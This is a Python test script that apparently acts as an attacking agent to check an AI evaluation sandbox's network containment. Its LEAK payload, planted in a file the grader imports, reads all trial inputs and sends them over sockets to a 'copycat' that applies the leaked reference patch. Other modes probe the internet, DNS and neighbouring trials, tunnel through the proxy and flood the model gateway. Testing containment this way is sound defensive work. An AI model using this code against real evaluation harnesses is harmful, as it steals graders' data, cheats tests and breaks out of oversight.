"""An agent that attacks the network containment, for the issue-28 tests (docs/security.md, "Network").

usage: net_attacker.py MODE [ARG...]   (cwd = the trial workspace)

Prints what it reached as ``REACHED <what>`` / ``RECEIVED <n> bytes`` lines and what it was
refused as ``refused <what>: <why>``; errors are printed, never raised.
"""

import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

ws = Path(os.environ.get("TRIALHOUSE_WORKSPACE", os.getcwd()))
ABSTRACT = "\0trialhouse-copycat-{}"


def say(*parts: object) -> None:
    print(*parts, flush=True)


LEAK = '''
def _leak():
    import os, socket, time
    blob = b""
    root = os.environ.get("TRIALHOUSE_INPUTS", "")
    for base, _dirs, files in os.walk(root):
        for name in files:
            try:
                blob += b"\\n=== " + name.encode() + b"\\n" + open(os.path.join(base, name), "rb").read()
            except OSError:
                pass
    end = time.time() + 4
    while time.time() < end:
        for family, address in ((socket.AF_UNIX, {abstract!r}), (socket.AF_INET, ("127.0.0.1", {port}))):
            try:
                s = socket.socket(family, socket.SOCK_STREAM)
                s.settimeout(1)
                s.connect(address)
                s.sendall(blob)
                s.close()
                return
            except OSError:
                pass
        time.sleep(0.1)
_leak()
'''


def hello(tag: str, port: int) -> bool:
    """Greet the copycat over its abstract socket or loopback port; True if it went."""
    for family, address in ((socket.AF_UNIX, ABSTRACT.format(tag)), (socket.AF_INET, ("127.0.0.1", port))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect(address)
                s.sendall(f"hello from the leaker's agent ({family.name})".encode())
            return True
        except OSError as exc:
            say("refused", family.name, type(exc).__name__)
    return False


def leaker(tag: str, port: str) -> None:
    """Plant code its own grader imports (sending every input it can read to the copycat),
    then greet the copycat directly from the agent."""
    calc = ws / "calc.py"
    calc.write_text(calc.read_text() + LEAK.format(abstract=ABSTRACT.format(tag), port=int(port)))
    end = time.time() + 6
    while time.time() < end and not hello(tag, int(port)):
        time.sleep(0.2)


def copycat(tag: str, port: str, wait: str) -> None:
    """Listen on an abstract socket and a loopback port; apply any patch that arrives."""
    listeners = []
    for family, address in ((socket.AF_UNIX, ABSTRACT.format(tag)), (socket.AF_INET, ("127.0.0.1", int(port)))):
        s = socket.socket(family, socket.SOCK_STREAM)
        if family == socket.AF_INET:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(address)
        except OSError as exc:  # another copycat of this run holds it (a shared network)
            say("could not listen", family.name, exc)
            continue
        s.listen(8)
        s.settimeout(0.2)
        listeners.append(s)
    end = time.time() + float(wait)
    while time.time() < end:
        for s in listeners:
            try:
                conn, _ = s.accept()
            except OSError:
                continue
            data = b""
            conn.settimeout(2)
            try:
                while chunk := conn.recv(65536):
                    data += chunk
            except OSError:
                pass
            say("RECEIVED", len(data), "bytes:", data[:80])
            for part in data.split(b"\n=== "):  # the leaker sends "=== <name>" and each file
                if b"diff --git" not in part:
                    continue
                patch = part[part.index(b"diff --git"):]
                done = subprocess.run(["git", "apply", "-"], input=patch, cwd=ws, capture_output=True)
                if done.returncode == 0:
                    say("APPLIED a leaked reference")
                    return


def probe(port: str, other_port: str) -> None:
    """Try the internet, the host's loopback and another trial's loopback (for 3 s each,
    the other trial may start listening later), and DNS."""
    for what, address in (("the internet by address", ("1.1.1.1", 443)),
                          ("the host loopback", ("127.0.0.1", int(port))),
                          ("another trial", ("127.0.0.1", int(other_port)))):
        end, why = time.time() + 3, None
        while time.time() < end:
            try:
                socket.create_connection(address, timeout=1).close()
                say("REACHED", what)
                break
            except OSError as exc:
                why = exc
                time.sleep(0.2)
        else:
            say("refused", what + ":", why)
    try:
        socket.getaddrinfo("example.com", 443)
        say("REACHED DNS")
    except OSError as exc:
        say("refused DNS:", exc)


def call_model() -> None:
    """One model call through the run's gateway (the route's base URL), then apply the fix."""
    base = os.environ.get("TRIALHOUSE_MODEL_BASE_URL", "")
    body = json.dumps({"model": "m", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}).encode()
    req = urllib.request.Request(base + "/v1/messages", data=body, headers={
        "content-type": "application/json", "x-api-key": os.environ.get("TRIALHOUSE_MODEL_API_KEY", ""),
        "anthropic-version": "2023-06-01"})
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(req, timeout=20) as answer:
            text = json.loads(answer.read())["content"][0]["text"]
        say("MODEL said", text)
    except (OSError, ValueError, KeyError, IndexError) as exc:
        say("model call failed:", exc)
        return
    if "mul" in text:
        (ws / "calc.py").write_text((ws / "calc.py").read_text() + "\n\ndef mul(a, b):\n    return a * b\n")


def fetch(url: str) -> None:
    """A GET through the proxy the sandbox was given (``HTTP_PROXY``/``HTTPS_PROXY``)."""
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            say("FETCHED", url, answer.status, answer.read()[:60])
    except urllib.error.HTTPError as exc:
        say("refused", url, exc.code)
    except OSError as exc:
        say("refused", url, exc)


def tunnel(host: str, port: str) -> None:
    """An HTTPS-style CONNECT tunnel through the proxy, then a plain request inside it."""
    proxy = os.environ.get("HTTPS_PROXY", "")
    try:
        phost, pport = proxy.rsplit("/", 1)[-1].split(":")
        with socket.create_connection((phost, int(pport)), timeout=10) as s:
            s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
            head = s.recv(4096)
            say("CONNECT", host, head.split(b"\r\n")[0].decode())
            if b" 200 " in head.split(b"\r\n")[0]:
                s.sendall(f"GET /tunnel HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
                data = b""
                while chunk := s.recv(65536):
                    data += chunk
                say("TUNNELLED", data.split(b"\r\n")[0].decode())
    except OSError as exc:
        say("refused tunnel", host, exc)


def flood(count: str, hold: str) -> None:
    """Open ``count`` idle connections to the gateway's port on this sandbox's loopback."""
    base = os.environ.get("TRIALHOUSE_MODEL_BASE_URL", "http://127.0.0.1:41000")
    host, port = base.split("//", 1)[1].split("/", 1)[0].split(":")
    held, failed = [], 0
    for _ in range(int(count)):
        try:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((host, int(port)))
            held.append(s)
        except OSError:
            failed += 1
    say("opened", len(held), "connections,", failed, "failed")
    time.sleep(float(hold))
    say("flood over")


MODES = {"leaker": leaker, "copycat": copycat, "probe": probe, "fetch": fetch, "tunnel": tunnel,
         "flood": flood, "call-model": call_model}

if __name__ == "__main__":
    mode, args = sys.argv[1], sys.argv[2:]
    for step in ([mode] if mode != "fetch-all" else []):
        MODES[step](*args)
    if mode == "fetch-all":  # fetch URL... then tunnel HOST PORT pairs after "--"
        urls, _, pairs = " ".join(args).partition(" -- ")
        for url in urls.split():
            fetch(url)
        words = pairs.split()
        for host, port in zip(words[::2], words[1::2], strict=True):
            tunnel(host, port)
    if mode == "probe":
        call_model()
